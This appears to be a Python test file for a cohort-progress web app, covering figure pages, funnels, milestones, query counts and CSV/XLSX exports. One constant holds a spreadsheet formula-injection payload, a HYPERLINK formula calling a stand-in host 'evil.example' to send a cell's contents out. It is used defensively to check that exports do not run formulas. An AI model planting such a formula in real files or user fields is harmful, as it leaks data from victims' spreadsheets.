"""Olga reads in figures how her cohort does, and takes them with her as files."""

import csv
import io
import zipfile
from collections.abc import Callable
from datetime import timedelta
from typing import Any
from uuid import uuid4

import pytest
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncSession

from cohort.cohorts.models import EnrolmentState
from cohort.figures.schemas import Figure
from cohort.guides.models import Guide, Milestone
from cohort.jobs import outbox
from cohort.people.models import Person
from cohort.schedules.models import Absence
from cohort.study.models import ItemState, PlanItem
from tests.conftest import MONDAY, Cast, Platform
from tests.rooms.figures_world import figure, join_all
from tests.rooms.session_world import TALK
from tests.rooms.study_cast import AGAIN, PASSED, the_cast
from tests.rooms.study_cast import Cast as StudyCast
from tests.world import a_cohort, enrolled

EVIL = '=HYPERLINK("http://evil.example?"&A1,"me")'


@pytest.fixture
async def cast(db: AsyncSession, enter: Cast) -> StudyCast:
    return await the_cast(db, enter, now=MONDAY)


async def review(cast: StudyCast, handed_in: Any, verdict: Any) -> None:
    address = f"/api/v1/submissions/{handed_in.json()['id']}/review"
    assert (await cast.max.post(address, json=verdict)).status_code == 201


async def test_a_hand_in_a_return_and_a_pass_are_in_every_figure_they_belong_to(
    cast: StudyCast, db: AsyncSession
) -> None:
    handed_in = await cast.hand_in()
    assert (await figure(cast, "reviews"))["waiting"] == 1
    await review(cast, handed_in, AGAIN)
    again = await cast.hand_in({"text": "Chosen by cost.", "links": []})
    await review(cast, again, PASSED)
    await cast.hand_in(item_id=cast.items["mock-exam"])

    week, *later = (await figure(cast, "weeks"))["weeks"]
    assert (week["people"], week["items"], week["handed_in"], week["passed"]) == (1, 3, 2, 1)
    assert {one["passed"] for one in later} == {None}
    assert later[-1]["planned"] == 3

    reviews = await figure(cast, "reviews")
    assert (reviews["waiting"], reviews["longest"][0]["milestone"]) == (1, "Mock Exam")
    [first] = reviews["weeks"]
    assert (first["handed_in"], first["judged"], first["half_days"]) == (2, 1, None)

    by_title = {one["title"]: one for one in (await figure(cast, "milestones"))["milestones"]}
    passed = by_title["End To End"]
    assert (passed["begun"], passed["passed"], passed["sent_back"]) == (1, 1, 1)
    assert passed["days"]["half"] is None, "one person is no median"

    steps = {one["step"]: one for one in (await figure(cast, "funnel"))["steps"]}
    reached = [steps[one]["people"] for one in ("enrolled", "first_evidence", "half", "all")]
    assert reached == [1, 1, 0, 0]
    progress = await figure(cast, "progress")
    [ada] = progress["people"]
    assert (ada["whole"]["passed"], ada["whole"]["total"], ada["mentor"]) == (1, 3, "Max Example")
    assert [cell["passed"] for cell in ada["cells"]] == [1, 0]


async def test_people_stand_at_the_first_thing_that_is_overdue_and_few_are_called_few(
    cast: StudyCast, db: AsyncSession
) -> None:
    here = f"/cohorts/{cast.cohort.slug}/figures/milestones"
    assert "nobody stands still" in (await cast.olga.get(here)).text
    await join_all(db, cast, 3)
    few = (await cast.olga.get(here)).text
    assert "3 of 3 people stand here" in few
    assert "may be chance" in few
    done = {"state": ItemState.PASSED, "passed_at": MONDAY, "handed_in_at": MONDAY}
    await join_all(db, cast, 7, **done)
    told = await figure(cast, "milestones")
    first, second, _ = told["milestones"]
    assert told["stuck"] == [first["milestone_id"]]
    assert (first["stand_here"], second["stand_here"], second["overdue"]) == (3, 0, 3)
    assert (first["begun"], first["open"], first["days"]["half"]) == (10, 3, 0)
    assert first["days"]["three_quarters"] is None, "three of ten are still at it"
    assert "Half pass it by day 0" in (await cast.olga.get(here)).text


async def test_the_funnel_counts_those_who_left_apart_and_knows_the_exam(
    cast: StudyCast, db: AsyncSession
) -> None:
    kinds = {"drift-monitor": "exam_booking", "mock-exam": "exam_result"}
    for slug, kind in kinds.items():
        await db.execute(update(Milestone).where(Milestone.slug == slug).values(kind=kind))
    at = MONDAY + timedelta(days=3)
    done = {"state": ItemState.PASSED, "passed_at": at, "handed_in_at": MONDAY}
    all_done = await join_all(db, cast, 6, **done)
    enrolment = await db.get_one(type(cast.enrolment), all_done[0])
    enrolment.state = EnrolmentState.WITHDRAWN
    await db.commit()
    funnel = await figure(cast, "funnel")
    steps = {one["step"]: one for one in funnel["steps"]}
    certified = steps["certified"]
    assert (certified["people"], certified["left"], certified["share"]) == (5, 1, 5 / 6)
    assert (certified["since"], certified["days"]) == ("exam_booked", 0)
    assert (steps["half"]["days"], steps["half"]["days_from_start"]) == (3, 3)
    assert (steps["applied"]["people"], funnel["not_applied"]) == (0, 6)


async def test_a_file_holds_what_the_filters_leave_and_runs_no_formula(
    cast: StudyCast, db: AsyncSession, enter: Cast
) -> None:
    mallory = await enter("Mallory")
    evil = await db.get_one(Person, mallory.person.id)
    evil.name = EVIL
    await enrolled(db, cast.cohort, evil, now=MONDAY)
    await join_all(db, cast, 55)
    here = f"/cohorts/{cast.cohort.slug}/figures/progress"

    page = (await cast.olga.get(f"{here}?sort=progress")).text
    assert "57 people found" in page
    assert page.count("0 of 2 passed, 2 overdue") > 10, "cells say their words"
    sent = await cast.olga.get(f"{here}/csv?sort=-name")
    assert sent.headers["content-type"].startswith("text/csv")
    head, *rows = csv.reader(io.StringIO(sent.content.decode("utf-8-sig")))
    assert head[-2:] == ["1 Bridging (%)", "2 Preparation (%)"]
    assert (len(rows), rows[-1][0]) == (57, f"'{EVIL}"), "everybody, not a page of them"
    book = await cast.olga.get(f"{here}/xlsx?q=hyperlink&mentor=none")
    with zipfile.ZipFile(io.BytesIO(book.content)) as sheet:
        cells = sheet.read("xl/worksheets/sheet1.xml").decode()
        texts = sheet.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in cells
    assert "=HYPERLINK" in texts
    assert "Ada" not in texts

    for wrong in (f"{here}?sort=up", f"{here}/csv?sort=up"):
        refused = await cast.olga.get(wrong)
        assert (refused.status_code, "sort" in refused.text) == (422, True)
    assert (await cast.olga.get(f"{here}/pdf")).status_code == 404
    assert (await cast.olga.get(f"/cohorts/{cast.cohort.slug}/figures/moods")).status_code == 404


async def test_every_page_sends_as_many_statements_for_many_as_for_few(
    cast: StudyCast, db: AsyncSession, count_statements: Callable[[], Any]
) -> None:
    async def statements() -> dict[str, int]:
        sent = {}
        for name in Figure:
            async with count_statements() as seen:
                page = await cast.olga.get(f"/cohorts/{cast.cohort.slug}/figures/{name}")
            assert page.status_code == 200
            sent[name] = len(seen)
        return sent

    await cast.hand_in()
    few = await statements()
    await join_all(db, cast, 60)
    await join_all(db, cast, 5, state=ItemState.SUBMITTED, handed_in_at=MONDAY, versions=1)
    assert await statements() == few
    assert max(few.values()) <= 11


async def test_cohorts_of_one_guide_stand_beside_each_other_and_only_ones_own(
    cast: StudyCast, db: AsyncSession
) -> None:
    guide = await db.get_one(Guide, cast.cohort.guide_id)
    shared = {"slug": "pmle-2", "version": 2, "first_id": guide.id}
    same = ("title", "description", "author", "published_on", "tags", "imported_at")
    newer = Guide(id=uuid4(), **shared, **{name: getattr(guide, name) for name in same})
    db.add(newer)
    await db.flush()
    await a_cohort(db, newer, cast.olga.person, now=MONDAY, slug="autumn", name="Autumn")
    await a_cohort(db, guide, cast.sam.person, now=MONDAY, slug="hers", name="Another’s")
    await db.commit()
    told = (await figure(cast, "cohorts"))["cohorts"]
    assert [one["name"] for one in told] == ["Spring 2026", "Autumn"]
    page = (await cast.olga.get(f"/cohorts/{cast.cohort.slug}/figures/cohorts")).text
    assert page.count("<polyline") == 2
    assert "<desc" in page
    assert "Another’s" not in page


async def test_a_week_away_leaves_both_lines_and_others_go_on(
    cast: StudyCast, db: AsyncSession
) -> None:
    done = {"state": ItemState.PASSED, "passed_at": MONDAY, "handed_in_at": MONDAY}
    await join_all(db, cast, 2, **done)
    before = (await figure(cast, "weeks"))["weeks"]
    assert (before[0]["people"], before[0]["items"], before[0]["passed"]) == (3, 9, 6)
    first = MONDAY.date()
    days = {"first_day": first, "last_day": first + timedelta(days=6)}
    db.add(Absence(enrolment_id=cast.enrolment.id, reason="", created_at=MONDAY, **days))
    await db.commit()
    week, after, *_ = (await figure(cast, "weeks"))["weeks"]
    assert (week["people"], week["items"], week["passed_share"]) == (2, 6, 1)
    assert (after["people"], after["items"]) == (3, 9)


async def test_sessions_tell_who_signed_up_and_who_came(
    cast: StudyCast, platform: Platform
) -> None:
    address = f"/api/v1/cohorts/{cast.cohort.id}/sessions"
    talk = TALK | {"day": "2026-03-02", "hour": "11:00"}
    [session] = (await cast.olga.post(address, json=talk)).json()["sessions"]
    place = await cast.ada.put(f"/api/v1/sessions/{session['id']}/place")
    assert place.status_code < 300, place.text
    [before] = (await figure(cast, "sessions"))["sessions"]
    assert (before["signed_up"], before["share"]) == (1, None)
    platform.clock.turn(hours=3)
    here = {"present": [cast.ada.id, cast.max.id], "absent": []}
    listed = f"/api/v1/sessions/{session['id']}/attendance_list"
    assert (await cast.olga.post(listed, json=here)).status_code == 200
    [after] = (await figure(cast, "sessions"))["sessions"]
    assert (after["came"], after["walked_in"], after["share"]) == (1, 1, 1)


async def test_what_was_handed_in_before_plans_counted_it_is_counted_once(
    cast: StudyCast, db: AsyncSession, platform: Platform
) -> None:
    handed_in = await cast.hand_in()
    await review(cast, handed_in, AGAIN)
    counted = select(PlanItem.handed_in_at, PlanItem.judged_at, PlanItem.versions)
    right = (await db.execute(counted.where(PlanItem.id == cast.first))).one()
    assert right == (MONDAY, MONDAY, 1)
    await db.execute(update(PlanItem).values(handed_in_at=None, judged_at=None, versions=0))
    for part in (0, 15):
        await outbox.enqueue(db, "study.count_versions", now=MONDAY, part=part)
    await db.commit()
    await platform.run_jobs()
    assert (await db.execute(counted.where(PlanItem.id == cast.first))).one() == right
